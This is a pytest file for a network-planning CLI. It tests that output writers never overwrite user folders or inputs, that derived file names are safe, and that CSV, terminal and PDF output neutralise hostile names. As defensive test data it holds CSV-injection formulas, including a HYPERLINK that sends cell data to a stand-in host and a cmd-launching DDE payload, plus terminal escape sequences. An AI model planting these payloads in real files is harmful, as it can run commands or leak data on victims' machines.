"""Writers never destroy what they did not write, and their output is safe
to open (issue 38, items 1, 4 and 6): folder outputs, outputs that are or
hold an input, per-host file names, formula cells in every CSV, control
characters on the terminal, --processes and SIGTERM."""

import csv
import io
import json
import os
import secrets
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from app import cli
from app.output_safety import MARKER, WINDOWS_RESERVED, file_name_part
from tests.app.import_samples import sar_sample
from tests.app.test_cli import EXAMPLE, run
from tests.app.test_files import big_sweep
from tests.conftest import ROOT

EVACUATION = ROOT / "resources/examples/evacuation_maintenance.toml"

# the OWASP "CSV injection" payloads, as a hostile colleague would name
# things
FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"open")',
            "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1)", "-2+3+cmd|x",
            "  =1+1")   # spreadsheets that trim on import run this too


def run_in(folder, *args, timeout=120):
    """The CLI in ``folder`` as its current directory."""
    return subprocess.run(
        [sys.executable, "-m", "app", *args], cwd=folder,
        capture_output=True, text=True, timeout=timeout,
        env={**os.environ, "PYTHONPATH": str(ROOT)})


def tree(folder):
    """Every path below ``folder`` with its bytes (None for a folder)."""
    return {str(p.relative_to(folder)): None if p.is_dir() else
            p.read_bytes() for p in sorted(Path(folder).rglob("*"))}


def assert_refused(process, *fragments):
    assert process.returncode == 2, process.stderr
    assert "Traceback" not in process.stderr
    assert "internal error" not in process.stderr
    for fragment in fragments:
        assert fragment in process.stderr


# -- item 1: folder outputs -------------------------------------------------

def test_parquet_sweep_keeps_an_existing_folder_it_did_not_write(tmp_path):
    # issue 38: this deleted the scenario, the notes and the sub-folder,
    # left only the parquet part, and exited 0
    folder = tmp_path / "results"
    (folder / "old").mkdir(parents=True)
    (folder / "old" / "keep.txt").write_text("mine")
    (folder / "notes.txt").write_text("notes")
    (folder / "plan.toml").write_bytes((ROOT / EXAMPLE).read_bytes())
    before = tree(folder)
    process = run("sweep", EXAMPLE, "--format", "parquet", "-o",
                  str(folder))
    assert_refused(process, f"{folder} already exists and is not a "
                   "Parquet sweep Linkplan wrote")
    assert tree(folder) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results"]


def test_parquet_sweep_replaces_its_own_earlier_output(tmp_path):
    import pyarrow.parquet as pq

    out = tmp_path / "points.parquet"
    for _ in range(2):
        assert run("sweep", EXAMPLE, "--format", "parquet", "-o",
                   str(out)).returncode == 0
        assert pq.read_table(out).num_rows == 80   # the marker is skipped
    assert json.loads((out / MARKER).read_text())["kind"] == "Parquet sweep"
    # the folder gets the umask's mode, not mkdtemp's private 0700
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(out.stat().st_mode) == 0o777 & ~umask
    # something of the user's put into it since: no longer replaced
    (out / "analysis.ipynb").write_text("{}")
    process = run("sweep", EXAMPLE, "--format", "parquet", "-o", str(out))
    assert_refused(process, "holds files Linkplan did not write there "
                   "(analysis.ipynb)")
    assert (out / "analysis.ipynb").read_text() == "{}"


def test_fleet_sweep_onto_its_input_folder_is_refused(tmp_path):
    plans = tmp_path / "plans"
    plans.mkdir()
    for name in ("a.toml", "b.toml"):
        (plans / name).write_bytes((ROOT / EXAMPLE).read_bytes())
    before = tree(plans)
    for fmt in ("parquet", "csv"):
        process = run("sweep", str(plans), "--format", fmt, "-o",
                      str(plans))
        assert_refused(process, f"-o {plans} holds the input")
        assert tree(plans) == before


def test_fleet_sweep_into_a_folder_among_its_inputs_reruns(tmp_path):
    # the marker is never taken for a scenario of the folder swept
    plans = tmp_path / "plans"
    plans.mkdir()
    (plans / "a.toml").write_bytes((ROOT / EXAMPLE).read_bytes())
    (plans / "b.toml").write_bytes((ROOT / EXAMPLE).read_bytes())
    out = plans / "points.parquet"
    for _ in range(2):
        process = run("sweep", str(plans), "--format", "parquet", "-o",
                      str(out))
        assert process.returncode == 0, process.stderr
        assert process.stderr == ""


def test_marked_output_folder_holding_an_input_is_refused(tmp_path):
    out = tmp_path / "points.parquet"
    assert run("sweep", EXAMPLE, "--format", "parquet", "-o",
               str(out)).returncode == 0
    scenario = out / "part-plan.toml"      # looks like a part, is an input
    scenario.write_bytes((ROOT / EXAMPLE).read_bytes())
    process = run("sweep", str(scenario), "--format", "parquet", "-o",
                  str(out))
    assert_refused(process, "holds the input")
    assert scenario.read_bytes() == (ROOT / EXAMPLE).read_bytes()


@pytest.mark.parametrize("target", [".", ".."])
def test_output_of_the_current_folder_is_a_clear_refusal(tmp_path, target):
    # issue 38: "-o ." failed only by accident ("internal error")
    work = tmp_path / "work"
    work.mkdir()
    (work / "keep.txt").write_text("mine")
    process = run_in(work, "sweep", str(ROOT / EXAMPLE), "--format",
                     "parquet", "-o", target)
    assert_refused(process, f"{target} is the current folder or holds it")
    assert tree(tmp_path) == {"work": None, "work/keep.txt": b"mine"}


def test_a_partial_folder_of_the_users_is_refused_before_sweeping(tmp_path):
    # Ctrl-C publishes OUT.partial: a folder of that name that is not
    # Linkplan's must not be replaced then
    out = tmp_path / "points.parquet"
    partial = tmp_path / "points.parquet.partial"
    partial.mkdir()
    (partial / "mine.txt").write_text("mine")
    process = run("sweep", EXAMPLE, "--format", "parquet", "-o", str(out))
    assert_refused(process, f"{partial} already exists")
    assert (partial / "mine.txt").read_text() == "mine"
    assert not out.exists()


# -- item 1: derived file names ---------------------------------------------

def two_host_sar(path, names):
    """The sar sample as the export of hosts ``names``, without its gap
    (every minute a sample)."""
    data = sar_sample()
    first = data["sysstat"]["hosts"][0]
    for minute, sample in enumerate(first["statistics"]):
        sample["timestamp"]["time"] = f"10:{minute:02d}:00"
    data["sysstat"]["hosts"] = [dict(first, nodename=name)
                                for name in names]
    path.write_text(json.dumps(data))


def test_import_never_writes_a_derived_name_over_its_input(tmp_path):
    # issue 38: fleet-kvm01.json was written over the export it was read
    # from (the -o == input check ignored the per-host names)
    source = tmp_path / "fleet-kvm01.json"
    two_host_sar(source, ["kvm01", "kvm02"])
    before = source.read_bytes()
    process = run_in(tmp_path, "import", "sar", source.name, "-o",
                     "fleet.json")
    assert_refused(process, "fleet-kvm01.json is the input "
                   "fleet-kvm01.json", "nothing written")
    assert source.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == \
        ["fleet-kvm01.json"]


def test_import_input_with_another_case_is_still_the_input(tmp_path):
    # on macOS and Windows FLEET-KVM01.json is fleet-kvm01.json
    source = tmp_path / "FLEET-KVM01.json"
    two_host_sar(source, ["kvm01", "kvm02"])
    process = run_in(tmp_path, "import", "sar", source.name, "-o",
                     "fleet.json")
    assert_refused(process, "is the input FLEET-KVM01.json")


def test_per_host_file_names_are_safe_on_every_platform(tmp_path):
    source = tmp_path / "sar.json"
    two_host_sar(source, ["db:01", "nul", "con.example", "Host", "host",
                          "\x1b[31mred"])
    process = run_in(tmp_path, "import", "sar", source.name, "-o",
                     "out.json")
    assert process.returncode == 0, process.stderr
    written = sorted(p.name for p in tmp_path.iterdir()
                     if p.name != "sar.json")
    assert len(written) == 6
    for name in written:
        stem = Path(name).stem.removeprefix("out-")
        assert all(c.isalnum() and c.isascii() or c in "_.-"
                   for c in stem), name
        assert stem.split(".")[0].upper() not in WINDOWS_RESERVED, name
    # names that differ only in case are different names
    assert len({n.casefold() for n in written}) == 6


@pytest.mark.parametrize("text, name", [
    ("db:01", "db_01"), ("CON", "_CON"), ("lpt1.local", "_lpt1.local"),
    ("..", "item"), (" host. ", "host"), ("a/b\\c", "a_b_c"),
    ("tab\there", "tab_here"), ("x" * 100, "x" * 60)])
def test_file_name_part(text, name):
    assert file_name_part(text) == name


def test_file_name_part_is_unique_without_regard_to_case():
    assert file_name_part("HOST", {"host", "host-2"}) == "HOST-3"


# -- item 4: output safe to open ---------------------------------------------

def hostile_evacuation(folder):
    """The maintenance example named by a hostile colleague: formulas as
    the scenario's, a variant's and the VMs' group names."""
    text = EVACUATION.read_text(encoding="utf-8")
    text = text.replace(
        'name = "Maintenance mode: evacuate a vSphere host over 2 x 25 GbE"',
        f"name = {json.dumps(FORMULAS[0])}")
    text = text.replace('group = "databases"',
                        f"group = {json.dumps(FORMULAS[2])}")
    text = text.replace("\n[[workloads.transfers]]", f"""
[[variants]]
name = {json.dumps(FORMULAS[1])}
set = {{ "network.mtu" = 1500 }}

[[variants]]
name = {json.dumps(FORMULAS[3])}
set = {{ "network.mtu" = 4000 }}

[[workloads.transfers]]""", 1)
    path = folder / "evacuation.toml"
    path.write_text(text, encoding="utf-8")
    return path


def text_cells_starting_a_formula(text):
    """CSV cells a spreadsheet would run: starting with = + - @ (or a tab
    or CR), unless the cell is a number."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.lstrip()[:1] in ("=", "+", "-", "@") or \
                    cell[:1] in ("\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def test_schedule_csv_never_starts_a_cell_with_a_formula(tmp_path):
    # issue 38: solve --schedule wrote 214 such cells (the other CSV
    # writers already neutralised them)
    scenario = hostile_evacuation(tmp_path)
    process = run("solve", str(scenario), "--schedule", timeout=300)
    assert process.returncode == 0, process.stderr
    rows = list(csv.DictReader(io.StringIO(process.stdout)))
    assert {r["variant"] for r in rows} >= {"'" + FORMULAS[1],
                                            "'" + FORMULAS[3]}
    assert {r["group"] for r in rows} >= {"'" + FORMULAS[2]}
    assert text_cells_starting_a_formula(process.stdout) == []


def hostile_jumbo(folder):
    """The jumbo example (it has a sweep) with formulas as its scenario's
    and a variant's names."""
    text = (ROOT / EXAMPLE).read_text(encoding="utf-8")
    text = text.replace('name = "MTU 9000"',
                        f"name = {json.dumps(FORMULAS[4])}", 1)
    text = text.replace('name = "IPv6"',
                        f"name = {json.dumps(FORMULAS[5])}", 1)
    text = text.replace('name = "Jumbo frames on a 10 GbE path"',
                        f"name = {json.dumps(FORMULAS[1])}", 1)
    path = folder / "jumbo.toml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("make, command", [
    (hostile_evacuation, ["solve", "FILE", "--format", "csv"]),
    (hostile_jumbo, ["solve", "FILE", "--format", "csv"]),
    (hostile_jumbo, ["sweep", "FOLDER"]),   # a fleet: rows name both
])
def test_every_csv_writer_neutralises_formulas(tmp_path, make, command):
    scenario = make(tmp_path)
    args = [{"FILE": str(scenario), "FOLDER": str(tmp_path)}.get(a, a)
            for a in command]
    process = run(*args, timeout=300)
    assert process.returncode == 0, process.stderr
    names = {cell for row in csv.reader(io.StringIO(process.stdout))
             for cell in row}
    assert names & {"'" + f for f in FORMULAS}   # they are there, quoted
    assert text_cells_starting_a_formula(process.stdout) == []


def test_control_characters_reach_the_terminal_as_escapes(tmp_path):
    # issue 38: ESC sequences in names reached the terminal raw (here:
    # clear the screen, set the window title, ring the bell, reverse)
    path = tmp_path / "plan.toml"
    text = (ROOT / EXAMPLE).read_text(encoding="utf-8")
    text = text.replace('name = "MTU 9000"',
                        'name = "MTU \\u001b[2J\\u001b]0;pwned\\u0007 9000"'
                        ).replace('name = "IPv6"', 'name = "\\u202eIPv6"')
    path.write_text(text, encoding="utf-8")
    process = run("solve", str(path), "--format", "table")
    assert process.returncode == 0, process.stderr
    for control in ("\x1b", "\x07", "\u202e"):
        assert control not in process.stdout
    assert "MTU \\x1b[2J\\x1b]0;pwned\\x07 9000" in process.stdout
    assert "\\u202eIPv6" in process.stdout
    # a line break in a name cannot forge a line of the table
    forged = tmp_path / "forged.toml"
    forged.write_text(text.replace("IPv6", "IPv6\\nbottleneck: none"),
                      encoding="utf-8")
    process = run("solve", str(forged), "--format", "table")
    assert "\\u202eIPv6\\x0abottleneck: none" in process.stdout
    assert "\nbottleneck: none" not in process.stdout
    scenario = tmp_path / "forged_name.toml"
    scenario.write_text(text.replace(
        'name = "Jumbo frames on a 10 GbE path"',
        'name = "Jumbo\\nGoal: forged"'), encoding="utf-8")
    process = run("advise", str(scenario))
    assert process.returncode == 0, process.stderr
    assert "Scenario: Jumbo\\x0aGoal: forged\n" in process.stdout
    # JSON keeps its meaning: the escape is JSON's own
    process = run("solve", str(path), "--format", "json")
    assert "\u202e" not in process.stdout
    names = [v["name"] for v in json.loads(process.stdout)["variants"]]
    assert "\u202eIPv6" in names
    # DEL and C1 controls (CSI, U+009B, acts as ESC [ on some terminals)
    # too, in escapes JSON reads back
    path.write_text(text.replace("IPv6", "IPv6 \\u007f\\u009b2J"),
                    encoding="utf-8")
    process = run("solve", str(path), "--format", "json")
    assert "\x7f" not in process.stdout and "\x9b" not in process.stdout
    names = [v["name"] for v in json.loads(process.stdout)["variants"]]
    assert "\u202eIPv6 \x7f\x9b2J" in names
    # messages too: a file name with an ESC sequence
    missing = tmp_path / "\x1b[31mmissing.toml"
    process = run("validate", str(missing))
    assert process.returncode == 2
    assert "\x1b" not in process.stderr and "\\x1b[31mmissing" in \
        process.stderr


# -- item 6: engines ---------------------------------------------------------

def test_processes_beyond_the_cores_are_capped_with_a_message(
        monkeypatch, capsys):
    from solvers import sweep

    asked = []

    def record(scenario, plan, *, processes, **kwargs):
        asked.append(processes)
        return (chunk for chunk in ())

    monkeypatch.setattr(sweep, "run", record)
    assert cli.main(["sweep", str(ROOT / EXAMPLE), "--processes",
                     "10000"]) == 0
    cores = len(os.sched_getaffinity(0))
    assert asked == [cores]
    assert f"--processes 10,000 is more than the {cores} core(s) here; " \
        f"using {cores}" in capsys.readouterr().err


def test_processes_of_two_to_the_31_is_not_an_internal_error(tmp_path):
    # issue 38: "internal error", exit 1 (a semaphore larger than the
    # system allows)
    out = tmp_path / "out.csv"
    process = run("sweep", EXAMPLE, "-o", str(out), "--processes",
                  "2147483648")
    assert process.returncode == 0, process.stderr
    assert "using" in process.stderr and "internal error" not in \
        process.stderr
    assert out.read_text() == run("sweep", EXAMPLE).stdout


def children(pid):
    """Process ids whose parent is ``pid``."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as stream:
                    fields = stream.read().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry))
    return found


def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return stream.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def test_sigterm_stops_the_workers_and_removes_the_parts(tmp_path):
    # issue 38: SIGTERM left orphan workers and a hidden .parts folder
    scenario = big_sweep(tmp_path)
    out = tmp_path / "out.csv"
    process = subprocess.Popen(
        [sys.executable, "-m", "app", "sweep", str(scenario), "-o",
         str(out), "--processes", "2"], cwd=ROOT, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not any(
            p.name.startswith(".out.csv.parts-") and any(p.iterdir())
            for p in tmp_path.iterdir()):
        time.sleep(0.05)
    workers = children(process.pid)
    assert workers and process.poll() is None
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=120)
    assert process.returncode == 143, stderr
    assert "terminated after" in stderr and "Traceback" not in stderr
    deadline = time.monotonic() + 10
    while any(alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not any(alive(w) for w in workers)
    # the rows so far are kept as Ctrl-C keeps them; no part is left
    assert sorted(p.name for p in tmp_path.iterdir()) == \
        ["big.toml", "out.csv.partial"]


def test_parts_are_never_written_into_dev(monkeypatch, capsys):
    # issue 38: -o /dev/full made a hidden .parts folder under /dev
    import tempfile

    made = []
    mkdtemp = tempfile.mkdtemp

    def recording(*args, **kwargs):
        made.append(kwargs.get("dir"))
        return mkdtemp(*args, **kwargs)

    monkeypatch.setattr(tempfile, "mkdtemp", recording)
    before = set(os.listdir("/dev"))
    code = cli.main(["sweep", str(ROOT / EXAMPLE), "-o", "/dev/full",
                     "--processes", "2"])
    assert code == 2
    assert "cannot write /dev/full: No space left on device" in \
        capsys.readouterr().err
    assert not [d for d in made if str(d).startswith("/dev")]
    # (on 74c0ff0 the worker's part was also left there)
    assert not {n for n in set(os.listdir("/dev")) - before
                if n.startswith(".full")}


@pytest.mark.parametrize("command", [
    ["sweep", EXAMPLE, "--processes", "2"], ["solve", EXAMPLE],
    ["new", "jumbo"]])
def test_a_new_file_in_dev_is_refused(command):
    # as root, these made a regular file among the devices
    target = Path(f"/dev/linkplan-test-{secrets.token_hex(4)}.toml")
    try:
        process = run(*command, "-o", str(target))
        assert_refused(process, f"{target} is in /dev")
        assert not target.exists()
    finally:
        target.unlink(missing_ok=True)


# -- item 4: the PDF report --------------------------------------------------

def test_report_shows_bidi_controls_and_line_breaks_in_names(tmp_path):
    # issue 38: an RTL override reversed the report's lines, and line
    # breaks in names broke its layout
    from pypdf import PdfReader

    path = tmp_path / "plan.toml"
    text = (ROOT / EXAMPLE).read_text(encoding="utf-8")
    text = text.replace('name = "Jumbo frames on a 10 GbE path"',
                        'name = "Plan \\u202eABCDEF\\nSecond line"', 1)
    text = text.replace('name = "IPv6"', 'name = "\\u202eIPv6 variant"')
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "report.pdf"
    process = run("report", str(path), "-o", str(out), timeout=300,
                  env={**os.environ, "QT_QPA_PLATFORM": "offscreen"})
    assert process.returncode == 0, process.stderr
    reader = PdfReader(out)
    pieces = []   # (y, x, text) of the first page's text runs

    def visit(text, cm, tm, font, size):
        if text.strip():
            pieces.append((round(tm[5], 1), tm[4], " ".join(text.split())))

    reader.pages[0].extract_text(visitor_text=visit)
    # the title is one line from the left margin, in the order written
    # (on 74c0ff0 "ABCDEF" was pushed right and "Second line" wrapped
    # onto a line of its own, right-aligned)
    title = [p for p in pieces if "Plan" in p[2]][0]
    assert title[1] == 0
    line = " ".join(text for y, x, text in sorted(pieces)
                    if y == title[0])
    assert line == "Plan \\u202eABCDEF\\x0aSecond line"
    shown = " ".join(" ".join(page.extract_text().split())
                     for page in reader.pages)
    assert "\u202e" not in shown
    assert "\\u202eIPv6 variant" in shown
    assert reader.metadata.title == \
        "Linkplan report: Plan \\u202eABCDEF\\x0aSecond line"
    # the attachments carry the scenario as it was given
    from models.scenario import parse_scenario

    attached = reader.attachments["scenario.toml"][0].decode()
    assert parse_scenario(attached, "toml").meta.name == \
        "Plan \u202eABCDEF\nSecond line"
